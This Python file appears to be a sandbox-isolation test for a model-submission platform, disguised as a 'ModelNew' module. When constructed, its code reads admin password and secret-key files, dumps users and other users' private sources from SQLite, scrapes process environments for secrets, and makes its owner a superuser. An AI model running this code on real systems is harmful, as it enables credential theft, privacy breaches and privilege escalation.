# ATTACK (the platform's data): reads the runner's var/ folder (admin password, secret key, any
# file), the SQLite database (users, other users' private sources) and every visible process's
# environment (SECRET_KEY, DATABASE_URL, ...), then tries to make its owner a superuser with an
# UPDATE of the users table. Prints what each attempt got (KB-ATTACK line) and returns zeros.
import json
import os
import sqlite3

import torch
import torch.nn as nn

# The shared prelude: conftest.render() puts common.py's text here.
from .common import CONFIG, REPORT, Blocked, attempt, in_scope, processes

SENSITIVE = ("SECRET_KEY", "KB_CANARY", "DATABASE_URL", "REDIS_URL", "SQLITE_PATH")


def read_files(paths, limit=120):
    got, errors = [], set()
    for path in paths:
        try:
            with open(path, "rb") as f:
                got.append(f"{path}: {f.read(limit)!r}")
        except OSError as exc:
            errors.add(f"{type(exc).__name__}: {exc.strerror}")
    if not got:
        raise Blocked(f"nothing readable ({sorted(errors)})")
    return "; ".join(got)


def var_dirs():
    return [CONFIG["var_dir"], os.path.join(CONFIG["repo"], "var")]


def read_var_files():
    paths, errors = [], set()
    for folder in var_dirs():
        try:
            names = sorted(os.listdir(folder))
        except OSError as exc:
            errors.add(f"{type(exc).__name__}: {exc.strerror}")
            continue
        paths += [os.path.join(folder, n) for n in names if os.path.isfile(os.path.join(folder, n))]
    if not paths:
        raise Blocked(f"no var/ folder visible ({sorted(errors)})")
    return f"{len(paths)} files: " + read_files(paths[:12], limit=40)


def read_database():
    con = sqlite3.connect(f"file:{CONFIG['sqlite_path']}?mode=ro", uri=True, timeout=10)
    try:
        users = con.execute("SELECT username, email FROM auth_user").fetchall()
        sources = con.execute(
            "SELECT substr(source, 1, 80) FROM submissions_submission WHERE user_id !="
            " (SELECT id FROM auth_user WHERE username = ?)", (CONFIG["username"],)).fetchall()
    finally:
        con.close()
    return f"users {users}; other users' sources {sources}"


def read_environ():
    found, read, errors = {}, 0, set()
    for pid in in_scope(processes()):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                data = f.read()
        except OSError as exc:
            errors.add(f"{type(exc).__name__}: {exc.strerror}")
            continue
        read += 1
        for item in data.split(b"\0"):
            key, _, value = item.decode(errors="replace").partition("=")
            if key in SENSITIVE and value:
                found[key] = value[:60]
    if not found:
        raise Blocked(f"{read} environments read, no secret in them ({sorted(errors)})")
    return f"{found}"


def make_self_superuser():
    con = sqlite3.connect(f"file:{CONFIG['sqlite_path']}?mode=rw", uri=True, timeout=10)
    try:
        with con:
            changed = con.execute(
                "UPDATE auth_user SET is_superuser = 1, is_staff = 1 WHERE username = ?",
                (CONFIG["username"],)).rowcount
    finally:
        con.close()
    if changed != 1:
        raise Blocked(f"{changed} rows changed")
    return "the attacker is a superuser now"


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        attempt("read_admin_password",
                lambda: read_files([os.path.join(d, "admin-password") for d in var_dirs()]))
        attempt("read_secret_key_file",
                lambda: read_files([os.path.join(d, "secret-key") for d in var_dirs()]))
        attempt("read_var_files", read_var_files)
        attempt("read_database", read_database)
        attempt("read_environ", read_environ)
        attempt("make_self_superuser", make_self_superuser)
        print("KB-ATTACK " + json.dumps(REPORT, sort_keys=True), flush=True)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.zeros_like(x)
